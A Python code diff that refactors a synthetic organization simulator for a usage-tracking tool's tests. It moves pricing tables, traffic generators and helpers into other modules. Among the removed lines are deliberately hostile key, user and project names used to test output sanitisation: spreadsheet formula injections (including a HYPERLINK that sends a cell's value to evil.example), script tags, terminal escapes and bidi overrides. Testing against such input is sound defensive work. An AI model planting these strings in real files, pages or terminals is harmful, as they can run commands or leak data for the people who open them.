@@ -1,9 +1,9 @@
-"""A deterministic synthetic OpenAI organization: people, projects, keys and their traffic.
+"""A deterministic synthetic organization: its people, projects and keys, and the traffic they make.
 
 Traffic is a list of events, each at a whole minute, generated hour by hour from ``(seed, hour)``
 alone, so an hour's events never change when the organization is built with another ``days`` or
-when the clock moves on. Every bucket width and grouping the API serves is an aggregation of these
-events, and :meth:`Organization.truth` aggregates the same events for tests.
+when the clock moves on. Every bucket width and grouping a simulated API serves is an aggregation
+of these events, and :meth:`Organization.truth` aggregates the same events for tests.
 """
 
 from __future__ import annotations
@@ -17,235 +17,43 @@ from dataclasses import dataclass, field
 from decimal import Decimal
 from functools import cached_property
 
-from usage_tracker.upstream.contract import (
-    CONTEXT_LEVELS,
-    DIMENSIONS,
-    IMAGE_SIZES,
-    IMAGE_SOURCES,
-    SOURCES,
-    WIDTH_SECONDS,
+from usage_tracker.providers.openai.contract import SOURCES, WIDTH_SECONDS
+from usage_tracker.providers.records import DIMENSIONS
+from usage_tracker.simulator.company import (
+    DAY,
+    HOSTILE_KEY_NAMES,
+    HOSTILE_PROJECT_NAMES,
+    HOSTILE_USER_NAMES,
+    HOUR,
+    PEOPLE_NAMES,
+    PROJECT_NAMES,
+    CostLine,
+    Dims,
+    Event,
+    SimKey,
+    SimProject,
+    SimUser,
+    ident,
 )
-
-from .scale import Size, base_model, created_before, key_models, key_weight, model_catalogue
-
-HOUR = 3600
-DAY = 86400
-
-Dims = tuple[str | bool | None, ...]
-
-
-@dataclass(frozen=True, slots=True)
-class SimUser:
-    id: str
-    name: str
-    email: str
-    role: str
-    added_at: int
-
-
-@dataclass(frozen=True, slots=True)
-class SimProject:
-    id: str
-    name: str
-    created_at: int
-    archived_at: int | None
-    vector_stores: tuple[str, ...]
-
-
-@dataclass(frozen=True, slots=True)
-class SimKey:
-    id: str
-    name: str
-    project_id: str
-    owner_type: str  # "user" or "service_account"
-    owner_id: str
-    owner_name: str
-    owner_email: str | None
-    created_at: int
-    deleted_at: int | None
-    owner_has_access: bool
-    models: tuple[str, ...]
-    sources: frozenset[str]
-    weight: float
-
-    @property
-    def user_id(self) -> str | None:
-        # Usage made with a service account's key is not attributed to a user.
-        return self.owner_id if self.owner_type == "user" else None
-
-    def active(self, ts: int, projects: dict[str, SimProject]) -> bool:
-        archived = projects[self.project_id].archived_at
-        return (
-            self.created_at <= ts
-            and (self.deleted_at is None or ts < self.deleted_at)
-            and (archived is None or ts < archived)
-        )
-
-
-@dataclass(frozen=True, slots=True)
-class CostLine:
-    line_item: str
-    micros: int
-    quantity: int
-    unit: str
-
-
-@dataclass(frozen=True, slots=True)
-class Event:
-    source: str
-    ts: int
-    dims: Dims
-    metrics: tuple[tuple[str, int], ...]
-    costs: tuple[CostLine, ...]
-    complimentary: bool = False
-
-
-# USD per 1M tokens (input, cached input, output); per-unit prices for the other sources.
-PRICES: dict[str, tuple[float, float, float]] = {
-    "gpt-5": (1.25, 0.125, 10.0),
-    "gpt-5-2025-08-07": (1.25, 0.125, 10.0),
-    "gpt-5-mini": (0.25, 0.025, 2.0),
-    "gpt-5-nano": (0.05, 0.005, 0.4),
-    "gpt-5-pro": (15.0, 15.0, 120.0),
-    "gpt-4.1": (2.0, 0.5, 8.0),
-    "gpt-4.1-mini": (0.4, 0.1, 1.6),
-    "gpt-4.1-nano": (0.1, 0.025, 0.4),
-    "gpt-4o-2024-08-06": (2.5, 1.25, 10.0),
-    "gpt-4o-mini": (0.15, 0.075, 0.6),
-    "o3": (2.0, 0.5, 8.0),
-    "o4-mini": (1.1, 0.275, 4.4),
-    "o1-pro": (150.0, 150.0, 600.0),
-    "codex-mini-latest": (1.5, 0.375, 6.0),
-    "ft:gpt-4o-mini-2024-07-18:acme::Bx7kQ2": (0.3, 0.15, 1.2),
-    "gpt-realtime": (4.0, 0.4, 16.0),
-    "text-embedding-3-small": (0.02, 0.02, 0.0),
-    "text-embedding-3-large": (0.13, 0.13, 0.0),
-    "omni-moderation-latest": (0.0, 0.0, 0.0),
-}
-TIER_PRICES: dict[str, dict[str, tuple[float, float, float]]] = {
-    "flex": {
-        "gpt-5": (0.625, 0.0625, 5.0),
-        "gpt-5-2025-08-07": (0.625, 0.0625, 5.0),
-        "gpt-5-mini": (0.125, 0.0125, 1.0),
-        "gpt-5-nano": (0.025, 0.0025, 0.2),
-        "o3": (1.0, 0.25, 4.0),
-        "o4-mini": (0.55, 0.1375, 2.2),
-    },
-    "priority": {
-        "gpt-5": (2.5, 0.25, 20.0),
-        "gpt-5-2025-08-07": (2.5, 0.25, 20.0),
-        "gpt-5-mini": (0.45, 0.045, 3.6),
-        "gpt-4.1": (3.5, 0.875, 14.0),
-        "gpt-4.1-mini": (0.7, 0.175, 2.8),
-        "gpt-4.1-nano": (0.2, 0.05, 0.8),
-        "gpt-4o-2024-08-06": (4.25, 2.125, 17.0),
-        "gpt-4o-mini": (0.25, 0.125, 1.0),
-        "o3": (3.5, 0.875, 14.0),
-        "o4-mini": (2.0, 0.5, 8.0),
-    },
-}
-"""OpenAI's Flex and Priority prices (USD per 1M tokens: input, cached input, output) for the
-models that offer them; traffic of another model on those tiers is served (and billed) as
-default."""
-AUDIO_PRICES = {"gpt-realtime": (32.0, 64.0)}
-"""Realtime models' audio tokens (input, output), billed apart from their text tokens."""
-UNIT_PRICES = {
-    "gpt-image-1": 0.04,
-    "dall-e-3": 0.08,
-    "tts-1": 0.000015,
-    "gpt-4o-mini-tts": 0.000012,
-    "whisper-1": 0.0001,
-    "gpt-4o-transcribe": 0.0001,
-    "web_search": 0.01,
-    "file_search": 0.0025,
-    "code_interpreter": 0.03,
-    "vector_store_gb_day": 0.1,
-}
-CHAT_MODELS = tuple(m for m in PRICES if not m.startswith(("text-embedding", "omni-moderation")))
-COMPLIMENTARY = frozenset(
-    {
-        "gpt-5",
-        "gpt-5-2025-08-07",
-        "gpt-5-mini",
-        "gpt-5-nano",
-        "gpt-4.1",
-        "gpt-4.1-mini",
-        "gpt-4.1-nano",
-        "gpt-4o-2024-08-06",
-        "gpt-4o-mini",
-        "o3",
-        "o4-mini",
-        "codex-mini-latest",
-    }
+from usage_tracker.simulator.scale import (
+    Size,
+    created_before,
+    key_models,
+    key_weight,
+    model_catalogue,
 )
-"""Models whose traffic OpenAI may report as complimentary (``incentivized-tier``)."""
-
-_PEOPLE = (
-    "Jane Smith",
-    "Arjun Patel",
-    "Mei Chen",
-    "Lucas Oliveira",
-    "Fatima Al-Sayed",
-    "Tom Becker",
-    "Sofia Rossi",
-    "Kwame Mensah",
+from usage_tracker.simulator.traffic import (
+    CHAT_MODELS,
+    DECISIONS_RATE,
+    MAKERS,
+    RATES,
+    UNIT_PRICES,
+    completion,
+    decision,
+    dims_of,
+    micros,
+    poisson,
 )
-HOSTILE_KEY_NAMES = (
-    '=HYPERLINK("http://evil.example/?"&B2,"Click")',
-    "default",
-    "default",
-    "+1+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "\tleading-tab",
-    "\rcarriage-return",
-    "[link=http://evil.example]billing[/link]",
-    "\x1b[31mred\x1b[0m\x07\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
-    "<script>alert('key')</script>",
-    "default",
-)
-"""Key names an outside check uses: live formulas, Rich markup, terminal escapes, HTML, and
-"default" thrice (OpenAI keys often share a name)."""
-HOSTILE_USER_NAMES = (
-    "=1+1",
-    "[bold red]Mallory[/bold red]",
-    "Eve\x1b[2J\x1b[H",
-    "<img src=x onerror=alert('user')>",
-    "Sam Lee",
-    "Sam Lee",
-    "@Trudy",
-    "Bidi \u202eevil\u202c name",
-)
-HOSTILE_PROJECT_NAMES = (
-    "=cmd|' /C calc'!A0",
-    "default",
-    "default",
-    "[italic]Project[/italic]",
-    "Legacy Chat",
-)
-_PROJECTS = ("Support Bot", "Research", "Data Pipeline", "Internal Tools", "Legacy Chat")
-_RATES = {
-    "completions": 7.0,
-    "embeddings": 2.0,
-    "moderations": 1.0,
-    "images": 0.5,
-    "audio_speeches": 0.5,
-    "audio_transcriptions": 0.5,
-    "code_interpreter_sessions": 0.4,
-    "file_search_calls": 0.8,
-    "web_search_calls": 0.8,
-}
-"""Mean events per hour at peak, by source (vector_stores is one sample per project a day)."""
-DECISIONS_RATE = 1.5
-
-
-def _ident(rng: random.Random, prefix: str, n: int = 16) -> str:
-    alphabet = "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789"
-    return prefix + "".join(rng.choice(alphabet) for _ in range(n))
-
-
-def _micros(quantity: int | float, usd_per_unit: float) -> int:
-    return round(quantity * usd_per_unit * 1_000_000)
 
 
 @dataclass
@@ -311,7 +119,7 @@ class Organization:
     def _build_scaled(self, rng: random.Random, size: Size) -> None:
         self.users = [
             SimUser(
-                id=_ident(rng, "user-", 24),
+                id=ident(rng, "user-", 24),
                 name=f"User {i:03d}",
                 email=f"user{i:03d}@example.com",
                 role="owner" if i == 0 else "reader",
@@ -321,8 +129,8 @@ class Organization:
         ]
         self.projects = {}
         for i in range(size.projects):
-            pid = _ident(rng, "proj_", 24)
-            stores = (_ident(rng, "vs_", 24),)
+            pid = ident(rng, "proj_", 24)
+            stores = (ident(rng, "vs_", 24),)
             self.projects[pid] = SimProject(
                 pid, f"Project {i:02d}", self.start - rng.randrange(60, 600) * DAY, None, stores
             )
@@ -334,11 +142,11 @@ class Organization:
             user = self.users[i % size.users]
             self.keys.append(
                 SimKey(
-                    id=_ident(rng, "key_", 16),
+                    id=ident(rng, "key_", 16),
                     name=f"key-{i:03d}",
                     project_id=pids[i % size.projects],
                     owner_type="service_account" if service else "user",
-                    owner_id=_ident(rng, "svc_", 24) if service else user.id,
+                    owner_id=ident(rng, "svc_", 24) if service else user.id,
                     owner_name=f"service-{i:03d}" if service else user.name,
                     owner_email=None if service else user.email,
                     created_at=created_before(rng, self.start),
@@ -354,11 +162,11 @@ class Organization:
 
     def _build_people(self, rng: random.Random) -> None:
         self.users = []
-        for i, name in enumerate(_PEOPLE):
+        for i, name in enumerate(PEOPLE_NAMES):
             first, last = name.lower().split(" ", 1)
             self.users.append(
                 SimUser(
-                    id=_ident(rng, "user-", 24),
+                    id=ident(rng, "user-", 24),
                     name=name,
                     email=f"{first}.{last.replace(' ', '')}@example.com",
                     role="owner" if i == 0 else "reader",
@@ -368,12 +176,12 @@ class Organization:
 
     def _build_projects(self, rng: random.Random, anchor: int) -> None:
         self.projects = {}
-        for i, name in enumerate(_PROJECTS):
-            pid = _ident(rng, "proj_", 24)
+        for i, name in enumerate(PROJECT_NAMES):
+            pid = ident(rng, "proj_", 24)
             archived = None
             if name == "Legacy Chat":
                 archived = self.start + int(self.days * 0.7) * DAY + 13 * HOUR
-            stores = tuple(_ident(rng, "vs_", 24) for _ in range(1 + i % 2))
+            stores = tuple(ident(rng, "vs_", 24) for _ in range(1 + i % 2))
             self.projects[pid] = SimProject(
                 pid, name, self.start - rng.randrange(60, 600) * DAY, archived, stores
             )
@@ -420,14 +228,14 @@ class Organization:
                 u = self.users[owner]
                 otype, oid, oname, oemail = "user", u.id, u.name, u.email
             else:
-                otype, oid, oname, oemail = "service_account", _ident(rng, "svc_", 24), name, None
+                otype, oid, oname, oemail = "service_account", ident(rng, "svc_", 24), name, None
             created = self.start - rng.randrange(1, 200) * DAY
             if name == "mei-batch":
                 created = self.start + (self.days // 3) * DAY
             deleted_at = None if deleted is None else self.start + int(self.days * 0.6) * DAY
             self.keys.append(
                 SimKey(
-                    id=_ident(rng, "key_", 16),
+                    id=ident(rng, "key_", 16),
                     name=name,
                     project_id=pid,
                     owner_type=otype,
@@ -504,10 +312,10 @@ class Organization:
     @cached_property
     def _rates(self) -> dict[str, float]:
         if self.size is None:
-            return _RATES
+            return RATES
         # Completions at the chosen rows per hour on average over a week's rhythm.
         week = [self._activity(h * HOUR) for h in range(7 * 24)]
-        return {**_RATES, "completions": self.size.rows_per_hour * len(week) / sum(week)}
+        return {**RATES, "completions": self.size.rows_per_hour * len(week) / sum(week)}
 
     def _activity(self, hour: int) -> float:
         hod = (hour % DAY) // HOUR
@@ -524,22 +332,22 @@ class Organization:
             if not keys:
                 continue
             weights = [k.weight for k in keys]
-            for _ in range(_poisson(rng, rate * activity)):
+            for _ in range(poisson(rng, rate * activity)):
                 key = rng.choices(keys, weights)[0]
                 ts = hour + rng.randrange(60) * 60
-                yield _MAKERS[source](self, rng, key, ts)
+                yield MAKERS[source](self, rng, key, ts)
         if hour % DAY == 0:
             yield from self._vector_store_samples(rng, hour)
         # A source added later draws from a generator of its own: the others stay as they were.
         later = random.Random(f"{self.seed}:{hour}:decisions")
         keys = [k for k in active if "decisions" in k.sources]
-        for _ in range(_poisson(later, DECISIONS_RATE * activity) if keys else 0):
+        for _ in range(poisson(later, DECISIONS_RATE * activity) if keys else 0):
             key = later.choices(keys, [k.weight for k in keys])[0]
-            yield _decision(self, later, key, hour + later.randrange(60) * 60)
+            yield decision(self, later, key, hour + later.randrange(60) * 60)
         for key_id, requests in self.leaks.get(hour, ()):
             key = next(k for k in self.keys if k.id == key_id)
             for _ in range(requests):
-                yield _completion(self, rng, key, hour + rng.randrange(60) * 60)
+                yield completion(self, rng, key, hour + rng.randrange(60) * 60)
 
     def _vector_store_samples(self, rng: random.Random, hour: int) -> Iterable[Event]:
         for project in self.projects.values():
@@ -548,14 +356,14 @@ class Organization:
             size = rng.randrange(50, 5000) * 1_000_000
             cost = CostLine(
                 "vector store storage",
-                _micros(size / 1e9, UNIT_PRICES["vector_store_gb_day"]),
+                micros(size / 1e9, UNIT_PRICES["vector_store_gb_day"]),
                 size,
                 "",  # bytes have no unit in the contract's list; quantity_unit stays null
             )
             yield Event(
                 "vector_stores",
                 hour,
-                _dims(project_id=project.id),
+                dims_of(project_id=project.id),
                 (("usage_bytes", size),),
                 (cost,),
             )
@@ -610,230 +418,3 @@ class Organization:
 
 def _group_key(dims: Dims, group_by: Sequence[str]) -> tuple[object, ...]:
     return tuple(dims[DIMENSIONS.index(g)] for g in group_by)
-
-
-def _dims(**values: str | bool | None) -> Dims:
-    return tuple(values.get(d) for d in DIMENSIONS)
-
-
-def _poisson(rng: random.Random, mean: float) -> int:
-    # Knuth's method; means here are below 10, so the loop is short.
-    limit, k, p = math.exp(-mean), 0, 1.0
-    while True:
-        p *= rng.random()
-        if p <= limit:
-            return k
-        k += 1
-
-
-def _people(key: SimKey) -> dict[str, str | bool | None]:
-    return {"project_id": key.project_id, "user_id": key.user_id, "api_key_id": key.id}
-
-
-def _completion(org: Organization, rng: random.Random, key: SimKey, ts: int) -> Event:
-    model = rng.choice(key.models)
-    requests = 1 + int(rng.expovariate(0.15))
-    input_tokens = requests * int(rng.lognormvariate(8.0, 0.9))
-    cached = int(input_tokens * rng.choice((0.0, 0.0, 0.3, 0.6)))
-    cache_write = int((input_tokens - cached) * rng.choice((0.0, 0.0, 0.1)))
-    uncached = input_tokens - cached - cache_write
-    output = int(input_tokens * rng.uniform(0.05, 0.5))
-    free = base_model(model) in COMPLIMENTARY
-    batch = free and rng.random() < 0.1
-    complimentary = free and not batch and rng.random() < 0.35
-    tier = (
-        "incentivized-tier"
-        if complimentary
-        else rng.choice(("default",) * 6 + ("flex", "priority"))
-    )
-    audio = model == "gpt-realtime"
-    in_audio = uncached // 2 if audio else 0
-    out_audio = output // 2 if audio else 0
-    in_image = uncached // 10 if model == "gpt-4.1" else 0
-    # Cache writes by time to live, drawn from the minute (not the generator: the rest of the
-    # organization stays as it was before these fields existed).
-    ttl = (ts // 60) % 3
-    write_30m = cache_write if ttl == 1 else 0
-    write_12h = cache_write if ttl == 2 else 0
-    metrics = {
-        "input_tokens": input_tokens,
-        "input_cached_tokens": cached,
-        "input_cache_write_tokens": cache_write,
-        "input_cache_write_30m_tokens": write_30m,
-        "input_cache_write_12h_tokens": write_12h,
-        "input_uncached_tokens": uncached,
-        "output_tokens": output,
-        "input_text_tokens": uncached - in_audio - in_image,
-        "output_text_tokens": output - out_audio,
-        "input_cached_text_tokens": cached,
-        "input_audio_tokens": in_audio,
-        "input_cached_audio_tokens": 0,
-        "output_audio_tokens": out_audio,
-        "input_image_tokens": in_image,
-        "input_cached_image_tokens": 0,
-        "output_image_tokens": 0,
-        "num_model_requests": requests,
-    }
-    if batch or (tier in TIER_PRICES and base_model(model) not in TIER_PRICES[tier]):
-        # The Batch API has no service tier of its own choosing, and OpenAI offers Flex and
-        # Priority for some models only: those requests are served (and billed) as default.
-        tier = "default"
-    costs = _completion_costs(model, tier, batch, metrics)
-    dims = _dims(
-        **_people(key), model=model, batch=batch, service_tier=tier, api_source=_api_source(key)
-    )
-    return Event("completions", ts, dims, tuple(metrics.items()), costs, complimentary)
-
-
-def _completion_costs(
-    model: str, tier: str, batch: bool, metrics: dict[str, int]
-) -> tuple[CostLine, ...]:
-    """The line items OpenAI bills a completion with: at the tier's prices (Batch at half),
-    audio tokens of realtime models at their own rates, each modality its own line item."""
-    base = base_model(model)
-    p_in, p_cached, p_out = TIER_PRICES.get(tier, {}).get(base) or PRICES[base]
-    discount = 0.5 if batch else 1.0
-    uncached = metrics["input_uncached_tokens"] + metrics["input_cache_write_tokens"]
-    cached, output = metrics["input_cached_tokens"], metrics["output_tokens"]
-
-    def line(item: str, tokens: int, usd_per_million: float) -> CostLine:
-        return CostLine(item, _micros(tokens / 1e6, usd_per_million * discount), tokens, "tokens")
-
-    if base in AUDIO_PRICES:
-        a_in, a_out = AUDIO_PRICES[base]
-        audio_in, audio_out = metrics["input_audio_tokens"], metrics["output_audio_tokens"]
-        item = f"realtime api | {model}"
-        return (
-            line(f"{item}, text, input", uncached - audio_in, p_in),
-            line(f"{item}, audio, input", audio_in, a_in),
-            line(f"{item}, text, cached input", cached, p_cached),
-            line(f"{item}, text, output", output - audio_out, p_out),
-            line(f"{item}, audio, output", audio_out, a_out),
-        )
-    # Fine-tuned models are billed as "ft-…" where usage says "ft:…".
-    item = "ft-" + model.removeprefix("ft:") if model.startswith("ft:") else model
-    return (
-        line(f"{item}, input", uncached, p_in),
-        line(f"{item}, cached input", cached, p_cached),
-        line(f"{item}, output", output, p_out),
-    )
-
-
-AGENT_KEYS = frozenset({"ingest-service", "ci-bot"})
-"""Keys whose traffic OpenAI attributes to the Agents API (``api_source``)."""
-
-
-def _api_source(key: SimKey) -> str:
-    return "agents_api" if key.name in AGENT_KEYS else "unlabeled"
-
-
-def _decision(org: Organization, rng: random.Random, key: SimKey, ts: int) -> Event:
-    """Decisions API usage: shaped as completions (the same fields), never complimentary."""
-    event = _completion(org, rng, key, ts)
-    tier = event.dims[DIMENSIONS.index("service_tier")]
-    dims = _dims(
-        **_people(key),
-        model=event.dims[DIMENSIONS.index("model")],
-        batch=event.dims[DIMENSIONS.index("batch")],
-        service_tier="default" if tier == "incentivized-tier" else tier,
-        api_source=_api_source(key),
-    )
-    return Event("decisions", ts, dims, event.metrics, event.costs)
-
-
-def _token_event(source: str, models: tuple[str, ...]) -> Callable[..., Event]:
-    def make(org: Organization, rng: random.Random, key: SimKey, ts: int) -> Event:
-        model = rng.choice(models)
-        requests = 1 + int(rng.expovariate(0.3))
-        tokens = requests * int(rng.lognormvariate(6.0, 1.0))
-        cost = CostLine(
-            f"{model}, input", _micros(tokens / 1e6, PRICES[model][0]), tokens, "tokens"
-        )
-        metrics = (("input_tokens", tokens), ("num_model_requests", requests))
-        return Event(source, ts, _dims(**_people(key), model=model), metrics, (cost,))
-
-    return make
-
-
-def _image(org: Organization, rng: random.Random, key: SimKey, ts: int) -> Event:
-    model = rng.choice(("gpt-image-1", "dall-e-3"))
-    requests = 1 + int(rng.expovariate(0.8))
-    images = requests * rng.randint(1, 4)
-    cost = CostLine(f"{model}, images", _micros(images, UNIT_PRICES[model]), images, "images")
-    dims = _dims(
-        **_people(key), model=model, size=rng.choice(IMAGE_SIZES), source=rng.choice(IMAGE_SOURCES)
-    )
-    metrics = (("images", images), ("num_model_requests", requests))
-    return Event("images", ts, dims, metrics, (cost,))
-
-
-def _audio(
-    source: str, counter: str, models: tuple[str, ...], lo: int, hi: int
-) -> Callable[..., Event]:
-    def make(org: Organization, rng: random.Random, key: SimKey, ts: int) -> Event:
-        model = rng.choice(models)
-        requests = 1 + int(rng.expovariate(0.5))
-        amount = requests * rng.randint(lo, hi)
-        unit = "characters" if counter == "characters" else "duration_seconds"
-        cost = CostLine(f"{model}, {counter}", _micros(amount, UNIT_PRICES[model]), amount, unit)
-        metrics = ((counter, amount), ("num_model_requests", requests))
-        return Event(source, ts, _dims(**_people(key), model=model), metrics, (cost,))
-
-    return make
-
-
-def _code_interpreter(org: Organization, rng: random.Random, key: SimKey, ts: int) -> Event:
-    sessions = rng.randint(1, 5)
-    cost = CostLine(
-        "code interpreter sessions",
-        _micros(sessions, UNIT_PRICES["code_interpreter"]),
-        sessions,
-        "",
-    )
-    return Event(
-        "code_interpreter_sessions",
-        ts,
-        _dims(project_id=key.project_id),
-        (("num_sessions", sessions),),
-        (cost,),
-    )
-
-
-def _file_search(org: Organization, rng: random.Random, key: SimKey, ts: int) -> Event:
-    calls = rng.randint(1, 20)
-    store = rng.choice(org.projects[key.project_id].vector_stores)
-    cost = CostLine("file search tool calls", _micros(calls, UNIT_PRICES["file_search"]), calls, "")
-    dims = _dims(**_people(key), vector_store_id=store)
-    return Event("file_search_calls", ts, dims, (("num_requests", calls),), (cost,))
-
-
-def _web_search(org: Organization, rng: random.Random, key: SimKey, ts: int) -> Event:
-    model = rng.choice(key.models)
-    requests = rng.randint(1, 8)
-    calls = requests * rng.randint(1, 3)
-    cost = CostLine("web search tool calls", _micros(calls, UNIT_PRICES["web_search"]), calls, "")
-    dims = _dims(
-        **_people(key),
-        model=model,
-        context_level=rng.choice(CONTEXT_LEVELS),
-        api_source=_api_source(key),
-    )
-    metrics = (("num_model_requests", requests), ("num_requests", calls))
-    return Event("web_search_calls", ts, dims, metrics, (cost,))
-
-
-_MAKERS: dict[str, Callable[[Organization, random.Random, SimKey, int], Event]] = {
-    "completions": _completion,
-    "embeddings": _token_event("embeddings", ("text-embedding-3-small", "text-embedding-3-large")),
-    "moderations": _token_event("moderations", ("omni-moderation-latest",)),
-    "images": _image,
-    "audio_speeches": _audio(
-        "audio_speeches", "characters", ("tts-1", "gpt-4o-mini-tts"), 200, 5000
-    ),
-    "audio_transcriptions": _audio(
-        "audio_transcriptions", "seconds", ("whisper-1", "gpt-4o-transcribe"), 10, 600
-    ),
-    "code_interpreter_sessions": _code_interpreter,
-    "file_search_calls": _file_search,
-    "web_search_calls": _web_search,
-}
